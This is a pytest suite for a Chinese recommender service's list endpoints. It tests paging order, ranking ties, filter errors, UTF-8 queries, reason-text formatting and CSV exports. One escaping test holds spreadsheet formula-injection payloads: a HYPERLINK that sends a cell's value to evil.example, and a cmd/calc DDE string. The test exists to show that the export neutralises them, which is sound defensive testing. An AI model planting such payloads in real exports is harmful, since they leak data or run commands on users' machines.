"""Every list as the selection center's users read it (issue 15): one order per list, numbers and punctuation as
Chinese tools write them, unknown filter values named, UTF-8 queries, and CSV downloads of every list."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import numpy as np
import pytest
from werkzeug.test import EnvironBuilder

from recommender import reasons
from serve.app import create_app
from tests.serve.test_hot import burst, hot_config, started

# -- one order per list ------------------------------------------------------------------------------------


def items(client, path: str, **params) -> list[dict]:
    r = client.get(path, query_string=params)
    assert r.status_code == 200, r.json
    return r.json["items"]


@pytest.mark.parametrize("params", [{}, {"exclude_shelf": "true"}, {"price_max": 150}, {"commission_min": 0.2}])
def test_two_pages_of_10_are_one_page_of_20(client, ids, params):
    for anchor in ids["anchors"][:12]:
        path = f"/v1/anchors/{anchor}/picks"
        twenty = [it["product"]["product_id"] for it in items(client, path, k=20, **params)]
        tens = [it["product"]["product_id"] for off in (0, 10) for it in items(client, path, k=10, offset=off,
                                                                               **params)]
        assert tens == twenty, anchor
        ranks = [it["rank"] for off in (0, 10) for it in items(client, path, k=10, offset=off, **params)]
        assert ranks == list(range(1, len(ranks) + 1))


def test_every_page_of_10_holds_the_category_cap(client, ids):
    for anchor in ids["anchors"][:12]:
        for offset in (0, 10, 20, 30):
            page = items(client, f"/v1/anchors/{anchor}/picks", k=10, offset=offset)
            cats = [it["product"]["category"] for it in page]
            assert max(cats.count(c) for c in cats) <= 7, (anchor, offset)


@pytest.mark.parametrize("window", ["1d", "7d", "30d"])
def test_the_board_s_places_are_the_ranks_reasons_and_product_pages_cite(client, serving, window):
    """Goods tied on sales take consecutive places, lower row first, on the board and in every rank cited."""
    w = int(window[:-1])
    for category in serving.ranker.categories:
        board = items(client, "/v1/rankings/top-sales", window=window, category=category, k=200)
        rows = [serving.model.product_ids.lookup(it["product"]["product_id"]) for it in board]
        assert [int(serving.ranker.board_rank[w][r]) for r in rows] == [it["rank"] for it in board]
        sales = [it["sales"] for it in board]
        assert sales == sorted(sales, reverse=True)
    ranks = serving.ranker.board_rank[7]
    cat = serving.ranker.goods.category
    on_board = ranks > 0
    for c in np.unique(cat[on_board]):  # no two goods of a category share a place
        held = ranks[on_board & (cat == c)]
        assert len(set(held.tolist())) == len(held)


def test_a_tie_on_sales_is_two_places_in_reasons_and_on_the_board(client, serving):
    sales = np.asarray(serving.ranker.goods.sales[7])
    ranks, cat = serving.ranker.board_rank[7], serving.ranker.goods.category
    tied = [(c, s) for c in np.unique(cat[ranks > 0]) for s in np.unique(sales[(ranks > 0) & (cat == c)])
            if ((ranks > 0) & (cat == c) & (sales == s)).sum() > 1]
    assert tied, "the small world has goods tied on 7-day sales within a category"
    c, s = tied[0]
    rows = np.flatnonzero((ranks > 0) & (cat == c) & (sales == s))
    assert sorted(ranks[rows].tolist()) == list(range(int(ranks[rows].min()), int(ranks[rows].min()) + len(rows)))
    assert ranks[rows].tolist() == sorted(ranks[rows].tolist())  # the lower row first
    for r in rows[:2]:
        detail = client.get(f"/v1/products/{serving.model.product_ids.ids[r].item()}").json
        assert detail["windows"]["7d"]["board_rank"] == int(ranks[r])


# -- unknown filter values ---------------------------------------------------------------------------------


@pytest.mark.parametrize("route", ["/v1/anchors/{anchor}/picks", "/v1/rankings/top-sales", "/v1/rankings/hot"])
def test_an_unknown_category_is_a_400_that_lists_the_valid_ones(client, ids, serving, route):
    r = client.get(route.format(anchor=ids["anchor"]), query_string={"category": "美装"})
    assert r.status_code == 400 and r.json["error"]["field"] == "category"
    assert "美装" in r.json["error"]["message"]
    assert all(c in r.json["error"]["message"] for c in serving.ranker.categories)


def test_an_unknown_tier_is_a_400_that_lists_the_valid_ones(client, ids, serving):
    r = client.get(f"/v1/products/{ids['product']}/anchors", query_string={"tier": "顶部"})
    assert r.status_code == 400 and r.json["error"]["field"] == "tier"
    assert serving.ranker.tiers and all(t in r.json["error"]["message"] for t in serving.ranker.tiers)
    assert client.get(f"/v1/products/{ids['product']}/anchors",
                      query_string={"tier": serving.ranker.tiers[0]}).status_code == 200


def test_an_unknown_anchor_is_still_a_404_before_its_filters(client):
    r = client.get("/v1/anchors/99999999/picks", query_string={"category": "美装"})
    assert r.status_code == 404


# -- UTF-8 in the query string -----------------------------------------------------------------------------


def raw_query(client, path: str, query: bytes):
    """A request whose query string is these bytes as a client sent them (WSGI carries them as latin-1)."""
    environ = EnvironBuilder(path=path).get_environ()
    environ["QUERY_STRING"] = query.decode("latin-1")
    return client.open(environ)


def test_raw_utf8_and_percent_encoded_queries_are_read_as_utf8(client, serving):
    category = next(c for c in serving.ranker.categories if not c.isascii())
    raw = raw_query(client, "/v1/rankings/top-sales", f"category={category}".encode())
    encoded = client.get("/v1/rankings/top-sales?category=" + "".join(f"%{b:02X}" for b in category.encode()))
    assert raw.status_code == encoded.status_code == 200, raw.json
    assert raw.json["category"] == encoded.json["category"] == category
    assert raw.json["items"] == encoded.json["items"] and raw.json["items"]
    name = str(serving.model.anchors["name"].iloc[0])
    found = raw_query(client, "/v1/search/anchors", f"q={name}".encode())
    assert found.status_code == 200 and found.json["query"] == name and found.json["items"]


def test_bytes_that_are_not_utf8_are_a_400_not_a_500(client):
    r = raw_query(client, "/v1/rankings/top-sales", b"category=\xff\xfe")
    assert r.status_code == 400 and r.json["error"]["field"] == "category"


@pytest.mark.parametrize("query", [b"q=%FF", b"q=%E7%BE%8E%E5", b"k=5&q=ok&%FF=1"])
def test_text_that_is_not_utf8_once_unescaped_is_named_not_searched_as_written(client, query):
    """%FF was searched as the three characters "%FF" (and a cut-off 美 as "美%E5"): the 400 names the field.
    (Raw bytes that are not UTF-8 reach the app only through a server: the test client replaces them, so that case
    is tested on the development server, tests/serve/test_cli.py.)"""
    r = raw_query(client, "/v1/products", query)
    assert r.status_code == 400, r.json
    error = r.json["error"]
    assert error["field"] == ("%FF" if b"%FF=" in query else "q") and "not UTF-8" in error["message"]


# -- numbers and punctuation in reasons --------------------------------------------------------------------

#: a figure with decimals is a ratio (1.8 倍), money over ten thousand (¥1.2万), a percentage or a rating; never a raw
#: fraction or a float such as 0.39 or 800.0
DECIMAL = re.compile(r"\d+\.\d+")
ALLOWED_DECIMAL = re.compile(r"\d+\.\d(?: 倍|万|亿|%| 分)")  # 分: a shop's rating (店铺评分 4.6 分)
ASCII_PUNCTUATION = re.compile(r"(?<!\d),|,(?!\d{3})|[:;()]")  # a comma only as a thousands separator


def check_text(text: str) -> None:
    for m in DECIMAL.finditer(text):
        assert ALLOWED_DECIMAL.match(text, m.start()), f"raw float {m.group()!r} in {text!r}"
        assert not m.group().startswith("0.") or text[m.end():m.end() + 1] in "%万", f"a 0-1 rate in {text!r}"
    assert not ASCII_PUNCTUATION.search(text), f"ASCII punctuation in {text!r}"


def test_reasons_of_many_picks_and_anchors_have_no_raw_floats_and_one_punctuation(client, ids, serving):
    texts = set()
    for anchor in serving.model.anchor_ids.ids[::3].tolist():
        for it in items(client, f"/v1/anchors/{anchor}/picks", k=50):
            texts.update(r["text"] for r in it["reasons"])
    for product in serving.model.product_ids.ids[::40].tolist():
        for it in items(client, f"/v1/products/{product}/anchors", k=20):
            texts.update(r["text"] for r in it["reasons"])
    assert len(texts) > 500
    for text in texts:
        check_text(text)


@pytest.mark.parametrize(("recent", "expected", "text", "value"), [
    (40, 0.05, "全平台近15分钟 40 单，平时每小时不到 1 单", 40.0),
    (40, 0.4, "全平台近15分钟 40 单，平时每小时约 2 单", 40.0),
    (40, 5.2, "全平台近15分钟 40 单，是平时同期（约 5 单）的 8.0 倍", 8.0),
    (1200, 9.6, "全平台近15分钟 1,200 单，是平时同期（约 10 单）的 120 倍", 120.0),
    (30, 1.4, "全平台近15分钟 30 单，是平时同期（约 1 单）的 30 倍", 30.0),
])
def test_a_hot_reason_s_arithmetic_holds_on_the_figures_it_cites(recent, expected, text, value):
    reason = reasons.hot_burst("全平台", 15, recent, expected)
    assert reason["text"] == text and reason["value"] == value
    check_text(reason["text"])
    said = re.search(r"约 ([\d,]+) 单）的 ([\d.,]+) 倍", reason["text"])
    if said:  # the ratio is the recent count over the usual count the sentence gives
        usual, ratio = int(said[1].replace(",", "")), float(said[2].replace(",", ""))
        assert ratio == pytest.approx(recent / usual, abs=0.05 if ratio < 10 else 0.5)


@pytest.fixture(scope="module")
def hot_app(small_artifact):
    return started({"model": str(small_artifact), "hot": hot_config()})


def test_hot_answers_cite_checkable_figures_and_live_counts(hot_app):
    from datetime import UTC, datetime

    client = hot_app.test_client()
    s = hot_app.extensions["xuanpin"]["serving"]
    hot = hot_app.extensions["xuanpin"]["hot"]
    now = datetime.fromtimestamp(hot.store.now() * 60, UTC) + timedelta(minutes=1)
    sold = np.asarray(s.model.product_stats["sales_7d"])
    fresh = np.flatnonzero(s.ranker.gate & (sold == 0))[:2]  # goods that sold nothing in the snapshot's week
    rooms = s.model.anchor_ids.ids[:2].tolist()
    for n, row in enumerate(fresh.tolist()):
        burst(client, rooms[n], s.model.product_ids.ids[row].item(), now, orders=40, tag=f"lists{n}")
    body = client.get("/v1/rankings/hot", query_string={"k": 50}).json
    assert body["as_of"].endswith("+08:00")
    got = {it["product"]["product_id"]: it for it in body["items"]}
    for row in fresh.tolist():
        it = got[s.model.product_ids.ids[row].item()]
        assert it["product"]["sales_7d"] == 0  # the snapshot's figure, hence the live ones
        assert it["orders_24h"] >= 40 and it["orders_7d"] >= it["orders_24h"]
    for it in body["items"]:
        for r in it["reasons"]:
            check_text(r["text"])


# -- CSV downloads -----------------------------------------------------------------------------------------

LISTS = ["/v1/anchors/{anchor}/picks?k=30", "/v1/products/{product}/anchors?k=15", "/v1/products/{product}/similar?k=8",
         "/v1/rankings/top-sales?k=25", "/v1/rankings/top-sales?window=30d&k=10", "/v1/rankings/hot",
         "/v1/live/{anchor}/hot", "/v1/feed/hot?fan_id=1", "/v1/search/anchors?q=1&k=20",
         "/v1/search/categories", "/v1/rankings/anchors?k=20", "/v1/products/{product}/sellers?k=20",
         "/v1/products?k=20"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, so Excel reads the Chinese"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


@pytest.mark.parametrize("route", LISTS)
def test_every_list_downloads_as_csv_one_row_per_item(client, ids, route):
    path = route.format(anchor=ids["anchor"], product=ids["product"])
    answer = client.get(path).json
    r = client.get(path + ("&" if "?" in path else "?") + "format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv" and r.mimetype_params["charset"] == "utf-8"
    # named by the path after /v1/, ids included, so two anchors' or goods' downloads do not collide; a board's
    # by its window and metric too (its 销量 and GMV say over which days no other way); a hot list's by its
    # stale or warming_up flag (and its rows then say so under 数据状态)
    named = "-".join([path.split("?")[0].removeprefix("/v1/").replace("/", "-"),
                      *(answer[key] for key in ("window", "metric") if isinstance(answer.get(key), str)),
                      *(key for key in ("stale", "warming_up") if answer.get(key) is True)])
    assert r.headers["Content-Disposition"] == f"attachment; filename={named}.csv"
    table = read_csv(r.data)
    head, rows = table[0], table[1:]
    assert len(rows) == len(answer["items"])
    assert head and all(h for h in head) and len(set(head)) == len(head)
    assert all(len(row) == len(head) for row in rows)
    assert not [h for h in head if h.isascii() and h not in ("GMV(元)",)], f"Chinese headers: {head}"
    for row, item in zip(rows, answer["items"], strict=True):
        cells = dict(zip(head, row, strict=True))
        if "product" in item:
            p = item["product"]
            assert cells["商品ID"] == str(p["product_id"]) and cells["商品标题"] == p["title"]
            assert float(cells["售价(元)"]) == pytest.approx(p["price"])  # money in yuan
            assert cells["佣金率"] == f"{p['commission_rate'] * 100:.2f}".rstrip("0").rstrip(".") + "%"
        if "reasons" in item:
            assert cells["推荐理由"] == "；".join(x["text"] for x in item["reasons"])
        if "rank" in item:
            assert cells["名次"] == str(item["rank"])
        if "product" in item and item["product"].get("created_at"):  # Beijing time as a spreadsheet reads one
            wall = item["product"]["created_at"]
            assert wall.endswith("+08:00") and cells["上架时间(北京时间)"] == wall[:19].replace("T", " ")


def test_a_goods_daily_trend_downloads_one_row_per_beijing_day(client, ids):
    path = f"/v1/products/{ids['product']}/trend"
    days = client.get(path, query_string={"days": 14}).json["days"]
    table = read_csv(client.get(path, query_string={"days": 14, "format": "csv"}).data)
    assert table[0] == ["日期(北京时间)", "订单数", "销量", "GMV(元)"]
    assert [row[0] for row in table[1:]] == [d["date"] for d in days] and len(days) == 14
    assert [float(row[3]) for row in table[1:]] == pytest.approx([d["gmv"] for d in days])


@pytest.mark.parametrize("route", ["/v1/anchors/{anchor}/picks?k=10", "/v1/products/{product}/anchors?k=10",
                                   "/v1/rankings/anchors?k=10"])
def test_every_page_of_a_list_downloads_with_the_same_columns(client, ids, route):
    """A script appends pages: the probe saw the merchant view's empty page drop four columns and a page of one
    room without followers drop 粉丝客单价 (the audience line's model was a forward reference the columns missed)."""
    path = route.format(anchor=ids["anchor"], product=ids["product"]) + "&format=csv"
    full = read_csv(client.get(path).data)
    empty = read_csv(client.get(path + "&offset=9990").data)
    assert len(full) > 1 and len(empty) == 1
    assert empty[0] == full[0]


def test_an_empty_list_downloads_its_headers(client, ids):
    r = client.get(f"/v1/anchors/{ids['anchor']}/picks", query_string={"price_min": 1e9, "format": "csv"})
    table = read_csv(r.data)
    assert len(table) == 1 and "商品标题" in table[0] and "推荐理由" in table[0]


def test_accept_text_csv_asks_for_csv_and_a_browser_gets_json(client, ids):
    path = f"/v1/anchors/{ids['anchor']}/picks"
    assert client.get(path, headers={"Accept": "text/csv"}).mimetype == "text/csv"
    assert client.get(path, headers={"Accept": "*/*"}).mimetype == "application/json"
    assert client.get(path, headers={"Accept": "text/csv;q=0.5, application/json"}).mimetype == "application/json"
    # the integrator's probe: the very type this service answers CSV with, parameters or capitals, asked for JSON
    for accept in ("text/csv; charset=utf-8", "text/csv;charset=utf-8", "text/csv; header=present", "Text/Csv",
                   "application/json;q=0.5, text/csv; charset=utf-8"):
        r = client.get(path, headers={"Accept": accept})
        assert r.mimetype == "text/csv" and r.headers["Vary"] == "Accept", accept
    for accept in ("text/csv, application/json", "text/*", "application/json, text/csv;q=0"):
        assert client.get(path, headers={"Accept": accept}).mimetype == "application/json", accept
    assert "Accept" in client.get(path).headers.get("Vary", "")  # a cache must not give JSON's clients CSV


def test_a_bad_format_and_a_format_on_a_route_without_a_list_are_400s(client, ids):
    r = client.get(f"/v1/anchors/{ids['anchor']}/picks", query_string={"format": "xlsx"})
    assert r.status_code == 400 and r.json["error"]["field"] == "format"
    r = client.get(f"/v1/anchors/{ids['anchor']}", query_string={"format": "csv"})
    assert r.status_code == 400 and r.json["error"]["field"] == "format"


def test_errors_stay_json_when_csv_is_asked(client):
    r = client.get("/v1/anchors/99999999/picks", query_string={"format": "csv"})
    assert r.status_code == 404 and r.json["error"]["code"]


def test_the_document_offers_csv_on_every_list_route(client):
    doc = client.get("/openapi.json").json
    listed = {path for path, ops in doc["paths"].items()
              if "text/csv" in ops.get("get", {}).get("responses", {}).get("200", {}).get("content", {})}
    assert listed >= {"/v1/anchors/{anchor_id}/picks", "/v1/products/{product_id}/anchors",
                      "/v1/products/{product_id}/similar", "/v1/rankings/top-sales", "/v1/rankings/hot",
                      "/v1/live/{anchor_id}/hot", "/v1/feed/hot", "/v1/search/anchors", "/v1/search/categories"}
    for path in listed:
        names = [p["name"] for p in doc["paths"][path]["get"]["parameters"]]
        assert "format" in names


def test_a_hot_list_downloads_with_its_live_counts(small_artifact):
    app = create_app({"model": str(small_artifact), "hot": hot_config()})
    table = read_csv(app.test_client().get("/v1/rankings/hot?format=csv").data)
    assert {"近期订单", "近24小时订单", "近7天订单", "推荐理由"} <= set(table[0])


def test_the_document_lists_the_served_model_s_categories_and_tiers(client, serving):
    doc = client.get("/openapi.json").json
    params = {p["name"]: p["schema"] for p in doc["paths"]["/v1/rankings/top-sales"]["get"]["parameters"]}
    assert params["category"]["enum"] == serving.ranker.categories
    params = {p["name"]: p["schema"] for p in doc["paths"]["/v1/products/{product_id}/anchors"]["get"]["parameters"]}
    assert params["tier"]["enum"] == serving.ranker.tiers


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    from serve.export import to_csv

    items = [{"rank": 1, "score": -0.5, "product": {"title": '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'},
              "anchor": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"}, "reasons": [{"text": "+1 好评"}]},
             {"rank": 2, "score": 1.0, "product": {"title": "- 正常 标题"}, "anchor": {"name": "小美"},
              "reasons": [{"text": "好"}]}]
    rows = list(csv.reader(io.StringIO(to_csv(items).decode("utf-8-sig"))))
    by_column = {name: [row[i] for row in rows[1:]] for i, name in enumerate(rows[0])}
    assert by_column["商品标题"] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"点我领券")', "'- 正常 标题"]
    assert by_column["主播昵称"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "小美"]
    assert by_column["推荐理由"] == ["'+1 好评", "好"]
    assert by_column["得分"] == ["-0.5", "1"]  # numbers stay numbers


def test_an_empty_stale_list_s_csv_still_says_so_in_its_header():
    """A review: the 数据状态 column came only with rows, so an empty list saved in an outage read as current."""
    from serve.export import to_csv

    assert to_csv([], None, ["stale"]).decode("utf-8-sig").splitlines() == ["数据状态"]
    assert to_csv([], None, []).decode("utf-8-sig").splitlines() == [""]
